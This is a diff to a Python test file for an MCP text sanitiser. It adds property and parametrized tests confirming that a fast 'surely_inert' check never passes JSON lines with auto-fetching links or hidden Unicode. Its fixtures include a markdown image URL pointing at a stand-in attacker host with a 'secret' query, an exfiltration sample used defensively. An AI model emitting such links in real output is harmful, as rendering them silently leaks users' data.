@@ -1,10 +1,14 @@
 """People see what hides; clients get nothing that fetches by itself."""
 
+import json
+from collections.abc import Callable
+from typing import Any
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from nucleus.mcp.text import HIDDEN, escaped, hides, inert
+from nucleus.mcp.text import HIDDEN, escaped, hides, inert, surely_inert
 
 FETCHED = {
     "an image": "![x](https://evil.example/?q=secret)",
@@ -52,6 +56,45 @@ def test_a_person_sees_what_hides() -> None:
     assert escaped("a\u200bb\x1b[2J\U000e0041") == "a\\u{200b}b\\u{1b}[2J\\u{e0041}"
     assert escaped("shown\rhidden") == "shown\\u{d}hidden"
     assert escaped("two\r\nlines\n\tand é 中") == "two\r\nlines\n\tand é 中"
+
+
+CANDIDATES = st.lists(
+    st.sampled_from(
+        [*FETCHED.values(), "\U000e0041", "\u202e", "\u2066", "]", "(", ":", "<", "\\", "é", "\u201c", "中", "a", "/"]
+    )
+    | st.text(max_size=3),
+    max_size=8,
+).map("".join)
+VALUES = st.recursive(
+    st.none() | st.integers() | CANDIDATES,
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(CANDIDATES, inner, max_size=3),
+    max_leaves=6,
+)
+
+
+@given(st.dictionaries(CANDIDATES, VALUES, max_size=3), st.booleans())
+def test_a_line_that_is_surely_inert_holds_nothing_that_is_changed(value: dict[str, Any], ascii_only: bool) -> None:
+    line = json.dumps(value, ensure_ascii=ascii_only, separators=(",", ":")).encode("utf-8", "surrogatepass")
+    if surely_inert(line):
+        assert inert(value) == value
+
+
+@pytest.mark.parametrize("text", FETCHED.values(), ids=FETCHED.keys())
+@pytest.mark.parametrize(
+    "written", [json.dumps, lambda text: "".join(f"\\u{ord(char):04x}" for char in text).join('""')]
+)
+@pytest.mark.parametrize("brackets", [0, 100])
+def test_no_line_with_a_link_is_surely_inert(text: str, written: Callable[[str], str], brackets: int) -> None:
+    """And without this look such a line would pass as it is."""
+    line = f'{{"a":{[[]] * brackets},"text":{written(text)}}}'.encode()
+    assert not surely_inert(line)
+    assert inert(json.loads(line)) != json.loads(line)
+
+
+@pytest.mark.parametrize("text", ["plain", "it\u2019s", "a: b [1] (c)", "x" * 5000, "one\ntwo", "中", "[[]]"])
+def test_ordinary_lines_are_mostly_surely_inert(text: str) -> None:
+    line = json.dumps({"text": text, "list": [[1], [2]]}, ensure_ascii=False).encode()
+    assert surely_inert(line) == ("\u2019" not in text)
 
 
 @given(st.text())
